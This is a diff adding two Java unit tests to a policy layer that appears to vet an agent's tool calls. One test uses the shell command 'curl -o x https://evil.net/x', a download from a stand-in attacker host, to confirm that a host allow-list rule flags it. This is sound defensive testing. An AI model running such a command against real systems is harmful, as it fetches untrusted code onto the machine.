@@ -144,6 +144,14 @@ final class PolicyLayerTest {
       assertThat(inspect(GRANTS, call).least()).isEqualTo(Decision.BLOCK);
     }
 
+    @Test
+    void withoutAVaultNothingIsGrantedOrDenied() {
+      CallTool call =
+          new CallTool("files", ActionType.FILE_READ, Map.of(), List.of("secretref://a"));
+
+      assertThat(inspect(Policy.builtIn(), call).findings()).isEmpty();
+    }
+
     private SecretPlan plan(String reference) {
       return SecretPlan.of(List.of(reference), GRANTS, GRANTS.profile("builder"));
     }
@@ -208,6 +216,14 @@ final class PolicyLayerTest {
 
         assertThat(rules(inspect(domains, call))).contains(HostGrants.RULE);
       }
+    }
+
+    @Test
+    void aCommandIsHeldToTheSameListByTheHostsItNames() {
+      assertThat(rules(inspect(domains, StartProcess.shell("curl -o x https://evil.net/x"))))
+          .containsExactly(HostGrants.RULE);
+      assertThat(rules(inspect(domains, StartProcess.shell("curl -o x https://api.example.com"))))
+          .isEmpty();
     }
 
     @Test
